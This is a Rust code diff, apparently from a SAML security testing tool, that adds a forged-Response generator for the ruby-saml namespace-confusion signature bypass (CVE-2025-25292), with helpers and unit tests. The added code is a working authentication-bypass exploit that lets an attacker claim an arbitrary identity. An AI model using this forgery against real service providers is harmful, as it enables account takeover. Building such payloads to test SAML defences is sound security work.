@@ -7,7 +7,7 @@ use super::{Crafted, Ctx};
 use crate::message::{self, Signing};
 use crate::splice;
 use crate::CraftError;
-use trust_framework::saml::constants::status;
+use trust_framework::saml::constants::{status, NS_ASSERTION, NS_DSIG, NS_PROTOCOL};
 
 /// An error Response signed by the IdP, with no assertion (anyone can get one: ask the
 /// IdP for a login and cancel it), as the first root of node-saml's fixture
@@ -69,6 +69,100 @@ pub fn doctype_comment_differential(c: &Ctx<'_>) -> Result<Crafted, CraftError> 
     let xml =
         format!("<!DOCTYPE samlp:Response SYSTEM '\"><!--'>{forged}<![CDATA[-->{signed}<!--]]>-->");
     Ok(Crafted::of(xml).claiming(&c.forged))
+}
+
+/// ruby-saml CVE-2025-25292 (GitHub Security Lab and PortSwigger, 2025: "namespace
+/// confusion"; SAML Raider's recipe): a DTD declares the default `xmlns` of `Signature`
+/// twice, the IdP's namespace first. libxml2 takes the first declaration (XML 1.0 §3.3),
+/// REXML the last, so one parser sees an unprefixed `<Signature>` as the IdP's signature
+/// and the other does not. The genuine signature, so renamed, is parked in StatusDetail
+/// for the signature check (Nokogiri); a copy whose DigestValue is the digest of nothing
+/// sits in the forged assertion for the reference and digest (REXML); a namespace that no
+/// canonicaliser accepts makes Nokogiri hash the assertion as "", which that digest
+/// matches. An SP with one parser refuses: the DTD, the namespace, or the digest.
+pub fn attlist_namespace_differential(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
+    let signed = message::build(&c.knobs(), Signing::Assertion, &c.spec())?;
+    let sig_at = splice::assertion_signature_range(&signed)?;
+    let sig = &signed[sig_at.clone()];
+    let (hidden, fake) = (unprefixed(sig)?, digest_of_nothing(sig)?);
+    let xml = splice::replace(&signed, sig_at, "");
+    let xml = splice::set_name_id(&xml, &trust_framework::saml::xml::escape(&c.forged))?;
+    let issuer = splice::range(
+        &xml,
+        NS_ASSERTION,
+        "Issuer",
+        Some((NS_ASSERTION, "Assertion")),
+    )?;
+    let xml = splice::insert(&xml, issuer.end, &fake);
+    let code = splice::range(
+        &xml,
+        NS_PROTOCOL,
+        "StatusCode",
+        Some((NS_PROTOCOL, "Status")),
+    )?;
+    let detail = format!("<samlp:StatusDetail>{hidden}</samlp:StatusDetail>");
+    let xml = splice::insert(&xml, code.end, &detail);
+    let assertion = splice::assertion_range(&xml)?.start;
+    let name_end = xml[assertion..]
+        .find(|ch: char| ch.is_whitespace() || ch == '>')
+        .map(|i| assertion + i)
+        .ok_or_else(|| CraftError("unterminated Assertion start tag".into()))?;
+    let xml = splice::insert(
+        &xml,
+        name_end,
+        " xmlns:example=\"http://example.com\u{80}\"",
+    );
+    let dtd = format!(
+        "<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED \"{NS_DSIG}\" xmlns CDATA \"block\">]>"
+    );
+    Ok(Crafted::of(format!("{dtd}{xml}")).claiming(&c.forged))
+}
+
+/// `element` with its root's prefix dropped from the start and end tags (its namespace
+/// declarations kept, so the children still resolve).
+fn unprefixed(element: &str) -> Result<String, CraftError> {
+    let name_len = element[1..]
+        .find(|ch: char| ch.is_whitespace() || ch == '>')
+        .ok_or_else(|| CraftError("unterminated start tag".into()))?;
+    let qname = &element[1..1 + name_len];
+    let local = qname.rsplit(':').next().unwrap_or(qname);
+    let end_tag = format!("</{qname}>");
+    let body = element
+        .strip_suffix(&end_tag)
+        .ok_or_else(|| CraftError(format!("{qname} does not end with its end tag")))?;
+    Ok(format!("<{local}{}</{local}>", &body[1 + name_len..]))
+}
+
+/// `signature` with its DigestValue replaced by the digest of the empty string, in its
+/// DigestMethod (the signature value no longer matches: the copy is for a parser that
+/// reads the digest from it and checks the signature value elsewhere).
+fn digest_of_nothing(signature: &str) -> Result<String, CraftError> {
+    use base64::engine::general_purpose::STANDARD;
+    use base64::Engine as _;
+    use sha2::Digest as _;
+    let doc = roxmltree::Document::parse(signature)
+        .map_err(|e| CraftError(format!("the signature does not parse: {e}")))?;
+    let find = |name: &str| {
+        doc.descendants()
+            .find(|n| n.tag_name().namespace() == Some(NS_DSIG) && n.tag_name().name() == name)
+            .ok_or_else(|| CraftError(format!("no {name} in the signature")))
+    };
+    let method = find("DigestMethod")?
+        .attribute("Algorithm")
+        .unwrap_or_default();
+    let empty = match method.rsplit('#').next() {
+        Some("sha1") => STANDARD.encode(sha1::Sha1::digest(b"")),
+        Some("sha256") => STANDARD.encode(sha2::Sha256::digest(b"")),
+        Some("sha384") => STANDARD.encode(sha2::Sha384::digest(b"")),
+        Some("sha512") => STANDARD.encode(sha2::Sha512::digest(b"")),
+        _ => return Err(CraftError(format!("no digest of nothing for {method}"))),
+    };
+    let value = find("DigestValue")?.range();
+    let start = splice::after_start_tag(signature, value.start)?;
+    let end = signature[..value.end]
+        .rfind("</")
+        .ok_or_else(|| CraftError("DigestValue without end tag".into()))?;
+    Ok(splice::replace(signature, start..end, &empty))
 }
 
 /// Spaces the POST-binding bomb inflates to: four times what ruby-saml 1.18 takes
@@ -137,6 +231,34 @@ impl Crafted {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn the_hidden_signature_loses_only_its_prefix() {
+        let sig = r#"<ds:Signature xmlns:ds="d"><ds:SignedInfo/></ds:Signature>"#;
+        assert_eq!(
+            super::unprefixed(sig).unwrap(),
+            r#"<Signature xmlns:ds="d"><ds:SignedInfo/></Signature>"#
+        );
+        assert!(super::unprefixed("<ds:Signature>").is_err());
+    }
+
+    #[test]
+    fn the_fake_signature_carries_the_digest_of_nothing() {
+        let ds = trust_framework::saml::constants::NS_DSIG;
+        let sig = format!(
+            r#"<ds:Signature xmlns:ds="{ds}"><ds:Reference><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>abc=</ds:DigestValue></ds:Reference></ds:Signature>"#
+        );
+        let fake = super::digest_of_nothing(&sig).unwrap();
+        assert!(fake.contains(
+            "<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</ds:DigestValue>"
+        ));
+        let sha1 = sig.replace("2001/04/xmlenc#sha256", "2000/09/xmldsig#sha1");
+        assert!(super::digest_of_nothing(&sha1)
+            .unwrap()
+            .contains(">2jmj7l5rSw0yVb/vlWAYkK/YBwk=<"));
+        let md5 = sig.replace("2001/04/xmlenc#sha256", "2001/04/xmldsig-more#md5");
+        assert!(super::digest_of_nothing(&md5).is_err());
+    }
+
     #[test]
     fn a_duplicated_attribute_is_not_well_formed() {
         let x = r#"<a Version="2.0" Version="2.0"/>"#;
